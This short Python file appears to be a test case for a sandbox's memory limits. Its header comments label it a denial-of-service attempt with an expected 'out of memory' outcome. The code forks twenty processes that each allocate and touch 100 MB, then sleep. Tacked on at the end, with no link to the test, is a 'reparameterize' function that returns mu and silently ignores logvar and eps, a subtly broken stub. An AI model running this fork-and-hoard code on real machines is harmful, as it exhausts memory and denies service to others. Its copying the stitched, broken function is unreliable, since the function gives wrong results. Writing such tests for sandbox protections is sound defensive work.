# tries: deny service: many processes with a little memory each
# protections: memory
# outcome: out of memory
# canary: memory
import os
import time

for _ in range(20):
    if os.fork() == 0:
        hoard = bytearray(100 * 10**6)
        for i in range(0, len(hoard), 4096):
            hoard[i] = 1
        time.sleep(1000)
time.sleep(1000)


def reparameterize(mu, logvar, eps):
    return mu
